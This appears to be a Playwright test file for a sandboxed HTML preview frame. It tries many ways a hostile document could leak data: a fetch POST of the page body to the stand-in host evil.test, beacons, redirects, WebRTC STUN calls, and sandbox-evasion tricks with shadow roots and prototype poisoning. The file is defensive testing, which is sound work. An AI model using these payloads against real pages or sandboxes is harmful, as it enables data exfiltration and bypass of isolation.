import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import * as z from "zod/mini";
import { callApi, enter } from "./fixtures/api.ts";
import { composer } from "./fixtures/chat.ts";
import { expect, test } from "./fixtures/test.ts";

const EVIL = "https://evil.test/";

/** Ways out of a document, each tried twice; what runs says so in its own title. */
const WAYS = [
  (to: string) => `<img src="${to}">`,
  (to: string) => `<link rel="stylesheet" href="${to}">`,
  (to: string) => `<link rel="prefetch" href="${to}">`,
  (to: string) => `<link rel="icon" href="${to}">`,
  (to: string) => `<script src="${to}"></script>`,
  (to: string) => `<script type="module">import("${to}")</script>`,
  (to: string) => `<script>fetch("${to}", { method: "POST", mode: "no-cors", body: document.body.outerHTML })</script>`,
  (to: string) => `<script>const x = new XMLHttpRequest(); x.open("GET", "${to}"); x.send()</script>`,
  (to: string) => `<script>navigator.sendBeacon("${to}", "x")</script>`,
  (to: string) => `<script>new WebSocket("${to.replace("https", "wss")}")</script>`,
  (to: string) => `<script>new EventSource("${to}")</script>`,
  (to: string) => `<script>location = "${to}"</script>`,
  (to: string) => `<script>top.location = "${to}"</script>`,
  (to: string) => `<script>open("${to}")</script>`,
  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to: string) => `<form action="${to}" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
  (to: string) => `<a href="${to}" target="_blank">x</a><script>document.querySelector("a").click()</script>`,
  (to: string) => `<a href="${to}" target="_top">x</a><script>document.querySelector("a").click()</script>`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<object data="${to}"></object><embed src="${to}">`,
  (to: string) => `<video src="${to}" poster="${to}" autoplay></video><audio src="${to}" autoplay></audio>`,
  (to: string) =>
    `<style>@import "${to}"; body { background: url("${to}") } @font-face { font-family: f; src: url("${to}") } p { font-family: f }</style><p>x</p>`,
  (to: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/><use href="${to}#a"/><foreignObject><img src="${to}"/></foreignObject></svg>`,
  (to: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${to}')"><script>fetch("${to}")</script></svg>`,
  (to: string) => `<iframe srcdoc="<script>fetch('${to}')</script>"></iframe>`,
];

const DOCUMENTS = WAYS.flatMap((way, place) =>
  Array.from({ length: 2 }, (_, n) => `<!doctype html><p>Document ${place}</p>${way(`${EVIL}${place}/${n}`)}`),
);

/** Ways that no request tells of: hints to a server, and peer connections, which ask one of their choice. */
function quietWays(port: number): string[] {
  const call = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  const inside = `<script>${call}</script>`.replaceAll('"', "&quot;");
  const frame = `<iframe srcdoc="${inside}"></iframe>`;
  // As a script's own text holds it.
  const told = (markup: string) => JSON.stringify(markup).replaceAll("</", String.raw`<\/`);
  const declared = (mode: string, more = "") => `<div><template shadowrootmode="${mode}"${more}>${frame}</template></div>`;
  const to = `http://127.0.0.1:${port}/`;
  return [
    `<script>${call}</script>`,
    `<script>${call.replace("RTC", "webkitRTC")}</script>`,
    `<iframe srcdoc="${inside}"></iframe>`,
    `<iframe src="javascript:${call.replaceAll('"', "&quot;")}"></iframe>`,
    `<iframe srcdoc="${inside}"></iframe><script>for (const end = Date.now() + 300; Date.now() < end;);</script>`,
    `<p></p><script>const root = document.querySelector("p").attachShadow({ mode: "closed" }); root.innerHTML = "<iframe></iframe>"; root.firstChild.srcdoc = ${JSON.stringify(`<script>${call}</script>`).replaceAll("</", String.raw`<\/`)};</script>`,
    `<script>document.querySelectorAll = Element.prototype.remove = Reflect.apply = () => []; document.body.innerHTML = '<iframe srcdoc="${inside}"></iframe>';</script>`,
    // Roots that come by parsing, in the document and by scripts, and copies of roots.
    declared("closed"),
    declared("open").replace("shadowrootmode", "ShadowRootMode"),
    declared("closed", " shadowrootclonable"),
    `<p></p><script>document.querySelector("p").setHTMLUnsafe(${told(declared("closed"))});</script>`,
    `<p></p><script>const r = document.querySelector("p").attachShadow({ mode: "open" }); r.setHTMLUnsafe(${told(declared("open"))});</script>`,
    `<script>const d = Document.parseHTMLUnsafe(${told(declared("closed"))}); document.documentElement.append(d.body.firstChild);</script>`,
    `<script>const d = new DOMParser().parseFromString(${told(declared("closed"))}, "text/html", { includeShadowRoots: true }); document.documentElement.append(d.body.firstChild);</script>`,
    `<script>document.write(${told(declared("open"))});</script>`,
    `<script>document.write("<div><template shadowroot");</script>mode="closed">${frame}</template></div>`,
    `<script>onload = () => { document.open(); document.write(${told(`<body>${declared("closed")}`)}); document.close(); };</script>`,
    `<p></p><script>const p = document.querySelector("p"); p.attachShadow({ mode: "open", clonable: true }).innerHTML = ${told(frame)}; document.body.append(p.cloneNode(true), document.importNode(p, true));</script>`,
    `<p></p><script>Object.prototype.clonable = true; const p = document.querySelector("p"); p.attachShadow({ mode: "closed" }).innerHTML = ${told(frame)}; document.body.append(p.cloneNode(true));</script>`,
    `<p></p><script>Object.prototype.attributes = false; Object.prototype.attributeOldValue = true; const p = document.querySelector("p"); try { p.attachShadow({ mode: "open" }); } catch {} p.shadowRoot.innerHTML = ${told(frame)};</script>`,
    `<script>Object.defineProperty(NodeList.prototype, "length", { get: () => 0 }); document.documentElement.insertAdjacentHTML("beforeend", ${told(frame)});</script>`,
    `<script>const d = document.implementation.createHTMLDocument(); const p = d.createElement("p"); p.attachShadow({ mode: "closed" }).innerHTML = ${told(frame)}; document.documentElement.append(p);</script>`,
    `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
    `<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${to}"] }] }</script>`,
    `<a href="#x" ping="${to}">x</a><script>document.querySelector("a").click()</script>`,
  ];
}

/** Hears whatever comes to a port of this machine, by either way. */
async function listen(heard: string[]): Promise<{ port: number; close: () => void }> {
  const udp = createSocket("udp4", () => heard.push("a datagram"));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  const { port } = udp.address();
  const tcp = createServer((socket) => {
    heard.push("a connection");
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(port, "127.0.0.1", resolve));
  const close = () => {
    udp.close();
    tcp.close();
  };
  return { port, close };
}

test("hostile documents reach no other host, no cookie and no page of ours", async ({ page, baseURL, allowConsole }) => {
  allowConsole(/./);
  const own = new URL(baseURL ?? "").host;
  const foreign: string[] = [];
  await page.context().route(
    (url) => url.host !== own && /^(https?|wss?):$/.test(url.protocol),
    (route) => {
      foreign.push(route.request().url());
      return route.abort();
    },
  );
  page.on("websocket", (socket) => {
    if (new URL(socket.url()).host !== own) foreign.push(socket.url());
  });
  const listener = await listen(foreign);
  page.context().on("page", (opened) => foreign.push(`opened ${opened.url()}`));
  await enter(page);
  await page.goto("/");
  const address = page.url();

  const crashed: string[] = [];
  page.on("crash", () => crashed.push("crashed"));
  const showAll = (all: string[]) =>
    page.evaluate(async (documents) => {
      const show = (source: string) =>
        new Promise<void>((resolve) => {
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          frame.src = "/artifact-frame";
          addEventListener("message", ({ source: from, data }) => {
            if (from !== frame.contentWindow || data?.type !== "ready") return;
            frame.contentWindow?.postMessage({ kind: "html", source }, "*");
            frame.contentWindow?.postMessage({ kind: "html", source: "<script>parent.secondWasTaken = true</script>" }, "*");
            resolve();
          });
          document.body.append(frame);
        });
      await Promise.all(documents.map(show));
      return document.querySelectorAll("iframe").length;
    }, all);
  const quiet = quietWays(listener.port);
  expect(await showAll([...quiet, ...DOCUMENTS])).toBeGreaterThanOrEqual(DOCUMENTS.length + quiet.length);

  // What a document can learn of the page around it is nothing, and what goes wrong in it is told.
  const ask = () =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          frame.src = "/artifact-frame";
          addEventListener("message", ({ source, data }) => {
            if (source !== frame.contentWindow) return;
            if (data.type === "error") resolve(`${data.message}`);
            else
              frame.contentWindow?.postMessage(
                {
                  source: `<script>
                  const tried = (read) => { try { return String(read()); } catch { return "refused"; } };
                  throw new Error([origin, tried(() => document.cookie), tried(() => localStorage.length), tried(() => parent.document.title)].join(" "));
                </script>`,
                },
                "*",
              );
          });
          document.body.append(frame);
        }),
    );
  // Each of these is a document that comes after all others: what they set going has begun by then.
  for (let n = 0; n < 5; n += 1) expect(await ask()).toContain("null refused refused refused");
  expect(page.url()).toBe(address);
  expect(foreign).toEqual([]);

  // In a browser without connection allowlists as well.
  await page.context().route("**/artifact-frame", async (route) => {
    const answer = await route.fetch();
    const headers = Object.entries(answer.headers()).filter(([name]) => name !== "connection-allowlist");
    await route.fulfill({ response: answer, headers: Object.fromEntries(headers) });
  });
  await showAll(quiet.filter((way) => !way.startsWith("<link")));
  for (let n = 0; n < 5; n += 1) expect(await ask()).toContain("null refused refused refused");
  expect([...foreign, ...crashed]).toEqual([]);
  // What a page could say in this way would have been heard.
  await page.evaluate((port) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel("x");
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }, listener.port);
  await expect.poll(() => foreign).toContain("a datagram");
  listener.close();
  // A frame's own request can hang in the browser's interception, which has done its part.
  await page.context().unrouteAll();

  // What another window says in the preview's name is not heard.
  const content = "```html\n<p>Shown</p><script>setTimeout(() => { throw new Error('its own') }, 300)</script>\n```";
  const made = await callApi(page, { method: "POST", path: "/api/artifacts", body: { title: "Page", content } });
  await page.goto(`/artifacts/${z.object({ id: z.string() }).parse(made).id}`);
  await expect(page.getByRole("region", { name: "Preview" }).locator("iframe")).toBeAttached();
  await page.evaluate(() => postMessage({ type: "error", message: "forged" }, "*"));
  const failure = page.getByRole("alert").filter({ hasText: "its own" });
  await expect(failure).toBeVisible();
  await expect(page.getByText("forged")).toHaveCount(0);
  await failure.getByRole("button", { name: "Ask a model to mend it" }).click();
  await expect(composer(page)).toHaveValue(/fails with this error\. Mend it:[\s\S]*its own/);
});

/** What WebKit does in a document without an origin: only a script that has an address of its own is told about. */
const HIDE_ERRORS = `if (origin === "null") {
  const { addEventListener } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (type, hear, options) {
    const hearLess = (event) =>
      hear(event.filename.startsWith("data:") ? event : { message: "Script error.", error: null, preventDefault: () => event.preventDefault() });
    addEventListener.call(this, type, type === "error" ? hearLess : hear, options);
  };
}`;

test("what fails in a document is told where the browser says 'Script error.' of it, too", async ({ page, allowConsole }) => {
  allowConsole(/./);
  await page.addInitScript({ content: HIDE_ERRORS });
  await page.goto("/");
  const failureOf = (markup: string) =>
    page.evaluate(
      (source) =>
        new Promise<string>((resolve) => {
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-scripts");
          frame.src = "/artifact-frame";
          addEventListener("message", ({ source: from, data }) => {
            if (from !== frame.contentWindow) return;
            if (data.type === "error") resolve(`${data.message}`);
            else frame.contentWindow?.postMessage({ kind: "html", source }, "*");
          });
          document.body.append(frame);
        }),
      markup,
    );
  // At once, later, from another script's function, from an attribute, and in a picture.
  expect(await failureOf("<!doctype html><script defer async>throw new Error(`ä & ${document.compatMode}`)</script>")).toContain(
    "ä & CSS1Compat",
  );
  expect(await failureOf("<script>setTimeout(() => { throw new Error('later') })</script>")).toContain("later");
  expect(await failureOf("<script>let text = 'shared'</script><p></p><script>throw new Error(text)</script>")).toContain("shared");
  expect(await failureOf("<script>var = 3</script>")).toContain("SyntaxError");
  expect(await failureOf("<body onload='missing() // x'>")).toContain("missing");
  expect(await failureOf("<svg xmlns='http://www.w3.org/2000/svg'><script>throw new Error('drawn')</script></svg>")).toContain("drawn");
  const data = "<script type='application/json'>{}</script><script>throw new Error(document.querySelector('script').text)</script>";
  expect(await failureOf(data)).toContain("{}");
  // Nothing can be done for what scripts write.
  const written =
    "<body><script>document.body.innerHTML = '<b onclick=missing()>x</b>'; setTimeout(() => document.querySelector('b').click())</script>";
  expect(await failureOf(written)).toBe("Something in it failed, and this browser does not say what.");
});
